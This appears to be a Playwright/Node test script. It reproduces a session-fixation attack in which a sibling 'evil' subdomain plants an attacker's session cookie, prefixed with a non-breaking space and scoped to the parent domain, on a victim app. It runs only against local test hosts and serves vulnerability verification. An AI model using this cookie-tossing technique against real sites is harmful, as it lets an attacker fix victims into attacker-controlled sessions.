// Chromium end to end: evil.example.test fixes the victim's session at app.example.test (node:http + nodeHandler).
import http from "node:http";
import { createRequire } from "node:module";
import { createBackend, nodeHandler } from "/tmp/fresh/p/pkg/dist/server.js";
import { createTestSite } from "/tmp/fresh/p/pkg/testing.js";
const { chromium } = createRequire("/tmp/fresh/p/package.json")("playwright-core");
const site = createTestSite({ users: [{ username: "mallory", password: "pw-mallory-1" }, { username: "victim", password: "pw-victim-1" }] });
const backend = createBackend({ site: site.site, fetch: site.fetch, secret: "x".repeat(40) });
const O = "https://app.example.test";
const r = await backend.handle(new Request(O + "/api/presskey/login", { method: "POST", headers: { origin: O, "content-type": "application/json" }, body: JSON.stringify({ username: "mallory", password: "pw-mallory-1" }) }));
const mallory = r.headers.getSetCookie()[0].split(";")[0];
const handle = nodeHandler(backend);
const s = http.createServer((req, res) => {
  if (req.headers.host.startsWith("evil")) {
    res.setHeader("Set-Cookie", `\xa0${mallory}; Domain=example.test; Path=/api/`);
    res.writeHead(200); return res.end(Buffer.from("evil"));
  }
  if (req.url.startsWith("/api/")) return handle(req, res);
  res.end("app");
}).listen(0, "127.0.0.1", async () => {
  const port = s.address().port;
  const b = await chromium.launch({ executablePath: "/usr/bin/chromium", args: ["--no-sandbox", "--disable-gpu", "--host-resolver-rules=MAP *.example.test 127.0.0.1"] });
  const p = await b.newPage();
  await p.goto(`http://evil.example.test:${port}/`);
  await p.goto(`http://app.example.test:${port}/`);
  console.log("app's page sees:", await p.evaluate(async () => (await (await fetch("/api/presskey/session")).json()).user?.username));
  await b.close(); s.close();
});
